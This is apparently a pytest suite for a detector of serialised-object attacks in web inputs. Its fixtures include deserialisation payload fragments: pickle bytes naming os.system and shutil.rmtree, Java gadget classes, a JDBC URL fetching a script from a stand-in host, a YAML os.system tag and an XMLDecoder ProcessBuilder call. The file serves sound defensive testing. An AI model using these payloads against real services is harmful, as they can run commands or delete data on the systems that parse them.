"""Serialised objects as the libraries themselves write them, and bytes, base64 and configuration that are none."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import pickle
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lambdaguard.lexers import pickles
from lambdaguard.lexers.deser import scan
from lambdaguard.rules.engine import Engine

ENGINE = Engine(["deser"])

PROTOCOLS = range(6)


class Calls:
    def __reduce__(self):
        return print, ("called",)


def sure(text: str, place: str = "body", name: str = "") -> set[str]:
    return {rule for rule, _, _ in scan(text, place, name) if int(rule[-3:]) < 100}


@pytest.mark.parametrize("protocol", PROTOCOLS)
@pytest.mark.parametrize(
    "wrap",
    [lambda x: x, lambda x: [1, x], lambda x: {"a": {"b": x}}, lambda x: (x, "y" * 300)],
    ids=["bare", "list", "dict", "tuple"],
)
def test_a_pickle_that_calls_is_found(protocol: int, wrap) -> None:
    data = pickle.dumps(wrap(Calls()), protocol)
    assert "LG-DESER-004" in sure(base64.b64encode(data).decode()) | sure(data.decode("latin-1"))
    assert "LG-DESER-004" in sure(base64.b64encode(gzip.compress(data)).decode())


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_pickled_data_is_no_call(protocol: int) -> None:
    data = pickle.dumps({"name": "ann", "tags": [1, 2.5, None, True], "blob": b"\x00cos\nsystem\n"}, protocol)
    seen = pickles.walk(data.decode("latin-1"))
    assert (
        seen.ends and not (seen.imports and seen.calls)
    ) or protocol < 3  # bytes have no opcode of their own before protocol 3


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
        lambda x: st.lists(x) | st.dictionaries(st.text(max_size=5), x),
    ),
    st.sampled_from(PROTOCOLS),
)
def test_the_walk_follows_what_pickle_writes(value, protocol: int) -> None:
    seen = pickles.walk(pickle.dumps(value, protocol).decode("latin-1"))
    assert seen.ends and not seen.imports


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("LG-DESER-001", base64.b64encode(b"\xac\xed\x00\x05sr\x00\x0ccom.acme.Foo").decode()),
        ("LG-DESER-001", base64.b64encode(gzip.compress(b"\xac\xed\x00\x05sr\x00\x0ccom.acme.Foo", mtime=0)).decode()),
        ("LG-DESER-001", base64.b64encode(b"H\x02\x00C\x1dcom.sun.rowset.JdbcRowSetImpl\x91").decode()),
        ("LG-DESER-001", base64.b64encode(b"c\x02\x00m\x00\x03runMt\x00\x1dcom.sun.rowset.JdbcRowSetImplz").decode()),
        ("LG-DESER-001", "Mt\x00\x18sun.swing.SwingLazyValueS\x00\x01az"),
        ("LG-DESER-001", base64.b64encode(b"\x00\x03\x00\x00\x00\x01\x00\x04null\n\x13;com.sun.rowset.JdbcRowSetImpl").decode()),
        ("LG-DESER-004", base64.b64encode(b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x20env").decode()),
        ("LG-DESER-001", "$$BCEL$$$l$8b$I$A$A"),
        ("LG-DESER-001", "jdbc:mysql://e.example/a?autoDeserialize=true"),
        ("LG-DESER-001", "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://e.example/a.sql'"),
        ("LG-DESER-002", 'x";O:+9:"App\\Model":0:{}'),
        ("LG-DESER-003", base64.b64encode(b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00").decode()),
        ("LG-DESER-005", "a: !!python/name:os.system"),
        ("LG-DESER-005", "!!com.acme.Loader [x]"),
        ("LG-DESER-006", base64.b64encode(b"\x04\x08o:\x0bOpenURI\x06:\x09@url").decode()),
        ("LG-DESER-008", '{"@type" : "java.net.URL", "val":"x"}'),
        ("LG-DESER-010", "<object class='java.lang.ProcessBuilder'><void method='start'/></object>"),
    ],
)
def test_formats(rule: str, text: str) -> None:
    assert rule in sure(text)


def test_a_gadget_class_as_a_value_is_known_by_its_key() -> None:
    assert "LG-DESER-008" in sure("com.sun.rowset.JdbcRowSetImpl", "body", "@type")
    assert not sure("com.sun.rowset.JdbcRowSetImpl", "body", "comment")


@pytest.mark.parametrize(
    "text",
    [
        base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(200)).decode(),
        base64.b64encode(gzip.compress(b"plain text, nothing else", mtime=0)).decode(),
        "A: !Ref B\nC: !Sub '${D}'\nE: !!str 1\nF: !GetAtt G.Arn",
        '{"@type":"Person","name":"Ann"}',
        "java.lang.RuntimeException: x\n\tat com.sun.proxy.Proxy.run(Unknown)",
        "cos\nsin\ntan\n",
        "ios\nandroid\n",
        "The time is a:1 or O:2",
        base64.b64encode(b"H\x02\x00C\x0ecom.acme.Order\x91").decode(),
        "jdbc:h2:mem:test;INIT=CREATE SCHEMA IF NOT EXISTS shop",
        "jdbc:postgresql:///shop?socketFactory=com.google.cloud.sql.postgres.SocketFactory",
    ],
)
def test_other_data_passes(text: str) -> None:
    assert not sure(text)


def blocked(text: str, place: str = "query") -> bool:
    return text in ENGINE.suspects([text]) and any(match.confidence == "high" for match in ENGINE.judge(text, place))


def url_safe(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


SPELLED = {
    "base64": lambda data: base64.b64encode(data).decode(),
    "base64-twice": lambda data: base64.b64encode(base64.b64encode(data)).decode(),
    "base32": lambda data: base64.b32encode(data).decode(),
    "base32-small": lambda data: base64.b32encode(data).decode().lower(),
    "base85": lambda data: base64.b85encode(data).decode(),
    "adobe85": lambda data: base64.a85encode(data, adobe=True).decode(),
    "hexadecimal": bytes.hex,
    "prefixed": lambda data: "0x" + data.hex(),
    "spaced": lambda data: data.hex(" "),
    "printed": repr,
    "lines": lambda data: base64.encodebytes(data + bytes(60)).decode(),
    "capitals": lambda data: data.hex().upper(),
    "signed": lambda data: url_safe(data) + "." + url_safe(b"a signature, made of"),
    "marked": lambda data: "." + url_safe(zlib.compress(data)),
    "within-json": lambda data: '{"m": "{\\"p\\": \\"' + base64.b64encode(data).decode() + '\\"}"}',
}
PACKED = {"zlib": zlib.compress, "bzip2": bz2.compress, "xz": lzma.compress, "gzip": gzip.compress}
OBJECTS = {
    **{f"pickle-{protocol}": pickle.dumps({"cart": [1, Calls()]}, protocol) for protocol in PROTOCOLS},
    "php": b'O:9:"Cache\\Log":2:{s:7:"\x00*\x00path";s:5:"a.php";s:1:"b";i:1;}',
    "java": b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1",
}


# PHP's text is nowhere written so
UNUSUAL = {("php", each) for each in ("base32", "within-json", "base32-small", "base85", "prefixed", "spaced")}
# Their older opcodes are letters, and in small base32 letters are words
UNUSUAL |= {(f"pickle-{protocol}", each) for protocol in (0, 1) for each in ("base32-small", "prefixed")}


@pytest.mark.parametrize(
    ("kind", "spelled"), [(kind, spelled) for kind in OBJECTS for spelled in SPELLED if (kind, spelled) not in UNUSUAL]
)
def test_an_object_is_found_however_it_is_written(kind: str, spelled: str) -> None:
    assert blocked(SPELLED[spelled](OBJECTS[kind]))


@pytest.mark.parametrize("packed", PACKED)
@pytest.mark.parametrize("kind", OBJECTS)
def test_an_object_is_found_in_what_was_compressed(kind: str, packed: str) -> None:
    assert blocked(base64.b64encode(PACKED[packed](OBJECTS[kind])).decode())


@pytest.mark.parametrize(
    "text",
    [
        "(cshutil\nrmtree\nU\x04/tmpo.",
        b'user|O:5:"Order":1:{s:1:"a";i:1;}'.hex(),
        '{"a": {"className": "org.apache.commons.dbcp.JndiDataSource", "url": "http://a.example/"}}',
        "Serialized rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        "sid=BAhvOgtGb286OkJhcgY6CkBuYW1lSSIIYW5uBjoGRVQ=",
        '{"cart": "' + base64.b64encode(b'us|O:5:"Order":1:{s:1:"a";i:1;}').decode() + '"}',
        '{"cart": "' + base64.b64encode(b'C:11:"ArrayObject":4:{x:1;}').decode() + '"}',
        '{"class_name": "Lambda", "config": {"function": ["' + base64.b64encode(b"\xe3" + bytes(40)).decode() + '", null]}}',
        '<wddxPacket version="1.0"><data><struct type="com.acme.Loader"/></data></wddxPacket>',
    ],
)
def test_an_object_is_found_where_another_language_keeps_it(text: str) -> None:
    assert blocked(text)


@pytest.mark.parametrize(
    "text",
    [
        "Set-Cookie: s=BAh7BkkiD3Nlc3Npb25faWQGOgZFVEkiJTA5MGI\nX-Content-Type-Options: nosniff\nX-Frame-Options: SAMEORIGIN\n",
        "\xd0\xcf\x11\xe0" + "\x00" * 20 + "\x00\x01\x00\x00\x00\xff\xff\xff\xff" + "\x00" * 40,
        "0x52908400098527886e0f7030069857d2e4169ee7",
        "80 02 41 17 35 62 90 11 20",
        "80:04:95:1a:00:00:00:01",
        "fC2yjr9Q!xq1-Zt_0aa=",
        "1PASSWORD!with;marks&more",
        "b'\\x89PNG\\r\\n\\x1a\\n'",
        "qabalah readings aqefs",
        "V`t+x" * 8,
    ],
)
def test_what_only_begins_so_passes(text: str) -> None:
    assert not blocked(text)


@pytest.mark.parametrize("packed", PACKED)
def test_other_compressed_data_passes(packed: str) -> None:
    assert not blocked(base64.b64encode(PACKED[packed](b'{"name": "Ann", "notes": "nothing else"}' * 9)).decode())


@pytest.mark.parametrize("packed", PACKED)
def test_what_swells_is_read_as_far_as_it_matters(packed: str) -> None:
    assert blocked(base64.b64encode(PACKED[packed](OBJECTS["pickle-4"] + bytes(3_000_000))).decode()[:8000])


@given(st.binary(max_size=300))
def test_never_faults(data: bytes) -> None:
    scan(data.decode("latin-1"), "body", "")
    for head in (b"\x80\x04", b"\x78\x9c", b"\x1f\x8b", b"BZh9", b"\xfd7zXZ\x00"):
        ENGINE.judge(base64.b64encode(head + data).decode(), "cookie")
        scan(base64.b64encode(head + data).decode(), "cookie", "")
